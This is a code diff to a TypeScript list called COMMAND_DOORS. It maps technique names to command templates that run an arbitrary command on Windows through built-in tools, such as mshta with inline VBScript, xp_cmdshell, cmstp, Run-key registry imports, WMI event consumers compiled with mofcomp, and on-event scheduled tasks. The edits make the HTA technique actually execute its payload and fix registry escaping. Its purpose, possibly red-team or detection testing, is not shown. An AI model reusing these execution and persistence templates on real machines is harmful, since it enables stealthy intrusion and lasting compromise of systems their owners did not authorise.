@@ -84,7 +84,11 @@ export const COMMAND_DOORS: readonly CommandDoor[] = [
   cmd("wsl", (line) => `wsl -- cmd.exe /c ${line}`),
   cmd("python", (line) => `python -c "import os; os.system('${line}')"`),
   cmd("perl", (line) => `perl -e "system('${line}')"`),
-  cmd("hta file", (line) => `echo ${line} > C:\\x.hta\r\nmshta C:\\x.hta`),
+  cmd(
+    "hta file",
+    (line) =>
+      `echo ^<script language="VBScript"^>CreateObject("WScript.Shell").Run "${line}"^</script^> > C:\\x.hta\r\nmshta C:\\x.hta`,
+  ),
   cmd("explorer", (line) => `echo ${line} > C:\\x.cmd\r\nexplorer.exe C:\\x.cmd`),
   cmd("sqlcmd", (line) => `sqlcmd -Q "EXEC xp_cmdshell '${line}'"`),
   cmd("iexpress", () => "cmstp /s C:\\x.inf"),
@@ -170,7 +174,7 @@ export const COMMAND_DOORS: readonly CommandDoor[] = [
   ),
   powershell(
     "Run key by .reg file",
-    `Set-Content C:\\x.reg ("Windows Registry Editor Version 5.00\`r\`n\`r\`n[HKEY_LOCAL_MACHINE\\${RUN}]\`r\`n\`"x\`"=\`"" + $line + "\`"")\nreg import C:\\x.reg`,
+    `Set-Content C:\\x.reg ("Windows Registry Editor Version 5.00\`r\`n\`r\`n[HKEY_LOCAL_MACHINE\\${RUN}]\`r\`n\`"x\`"=\`"" + $line.Replace('\\', '\\\\') + "\`"")\nreg import C:\\x.reg`,
   ),
   powershell(
     "Run key by group policy",
@@ -220,7 +224,6 @@ export const COMMAND_DOORS: readonly CommandDoor[] = [
     (line) =>
       `echo instance of CommandLineEventConsumer { Name="x"; CommandLineTemplate="${line}"; }; > C:\\x.mof\r\nmofcomp C:\\x.mof`,
   ),
-  cmd("netsh helper", () => "netsh add helper \\\\files\\x.dll"),
   cmd("eventtriggers", (line) => `eventtriggers /create /tr x /eid 1 /tk "cmd /c ${line}"`),
   cmd("logman", (line) => `schtasks /create /tn x /sc onevent /ec System /tr "cmd /c ${line}"`),
 ];
